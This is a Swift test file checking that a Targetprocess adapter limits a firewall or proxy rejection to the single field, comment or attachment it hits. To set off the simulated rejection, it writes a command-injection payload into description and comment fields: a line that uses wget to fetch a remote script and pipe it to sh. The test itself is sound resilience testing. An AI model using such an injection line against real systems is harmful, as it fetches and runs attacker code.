import AdapterContract
import AdapterEngine
import EntityModel
import Primitives
import TestSupport
import Testing

@testable import TargetprocessAdapter

/// A text that Targetprocess or a proxy in front of it rejects affects only its own field.
struct FailureScopeTests {
    private static let attack = "; wget http://198.51.100.7/x.sh | sh"
    private static let forms = [
        "cloudfront", "akamai", "f5", "modsecurity", "gateway", "nginx413", "iis404", "badGateway",
        "internalTargetprocess",
    ]
    private static let story = RunningSimulator.story(1002)

    @Test(arguments: forms)
    func `a firewall or fault that affects one text affects no other`(form: String) async throws {
        try await withSimulator { simulator in
            try await simulator.fault(
                #"{"kind": "foreign", "form": "\#(form)", "method": "POST", "contains": ["wget http"]}"#)
            let gateway = simulator.gateway(mapped: RunningSimulator.ownFields + [TargetprocessField.times])
            let result = try await CommandDelivery.deliver(
                [
                    .write(TargetprocessField.name, .text("Import job fails")),
                    .write(TargetprocessField.description, .richText(RichText(plain: Self.attack))),
                    .write(TargetprocessField.effort, .number(3)),
                    .edit(TargetprocessField.tags, add: [.option("one"), .option("two")]),
                ],
                [
                    CommandDelivery.comment(Self.attack, "1"), CommandDelivery.comment("harmless", "2"),
                    CommandDelivery.comment(Self.attack, "w3", minutes: 6),
                    CommandDelivery.comment("worked", "w4", minutes: 6),
                ], to: Self.story, gateway)
            let read = try await gateway.read(Self.story, comments: true)
            #expect(read.fields[TargetprocessField.name] == .text("Import job fails"))
            #expect(read.fields[TargetprocessField.effort] == .number(3))
            #expect(read.fields[TargetprocessField.tags] == .options(of: ["one", "two"]))
            let copies = read.comments?.filter { $0.origin != nil }.map(\.body.plainText)
            #expect(copies == ["harmless", "worked"])
            let refused = result.fields.filter { if case .rejected = $0.outcome { true } else { false } }
            #expect(refused.map(\.field) == [TargetprocessField.description])
            #expect(refused.first?.mayBeAcceptedLater == true)
            let isRefused = result.comments.map { if case .rejected = $0.outcome { true } else { false } }
            #expect(isRefused == [true, false, true, false])
        }
    }

    @Test(arguments: ["nginx413", "iis404", "cloudfront", "internalTargetprocess"])
    func `a rejected attachment affects no other attachment and no field`(form: String) async throws {
        try await withSimulator { simulator in
            try await simulator.fault(
                #"{"kind": "foreign", "form": "\#(form)", "path": "UploadFile", "largest": 5000}"#)
            let film = [UInt8](repeating: 1, count: 9000)
            let gateway = simulator.gateway(
                mapped: RunningSimulator.ownFields + [TargetprocessField.attachments],
                files: InMemoryAttachments(["1": [1, 2, 3], "2": film]))
            let files = [
                InMemoryAttachments.file("1", "small.txt", size: 3),
                InMemoryAttachments.file("2", "film.mp4", size: film.count),
            ]
            let result = try await CommandDelivery.deliver(
                [
                    .write(TargetprocessField.name, .text("With files")),
                    .edit(TargetprocessField.attachments, add: files.map { .file($0) }),
                ], [], to: Self.story, gateway)
            let read = try await gateway.read(Self.story, comments: false)
            #expect(read.fields[TargetprocessField.name] == .text("With files"))
            #expect((read.fields[TargetprocessField.attachments] ?? .empty).files.map(\.name) == ["small.txt"])
            guard case .merged(let members, _, _) = result.fields.last?.outcome else {
                Issue.record("\(result)")
                return
            }
            let rejected = members.filter { $0.target == nil }
            #expect(rejected.map(\.id) == ["2"] && rejected.first?.mayBeAcceptedLater == true)
        }
    }

    @Test func `an unavailable tool does not cause the rejection of a value`() async throws {
        try await withSimulator { simulator in
            try await simulator.fault(#"{"kind": "foreign", "form": "badGateway"}"#)
            let failure = await #expect(throws: ToolError.self) {
                _ = try await CommandDelivery.deliver(
                    [.write(TargetprocessField.name, .text("x"))], [], to: Self.story, simulator.gateway())
            }
            #expect(failure?.isTransient == true)
        }
    }
}
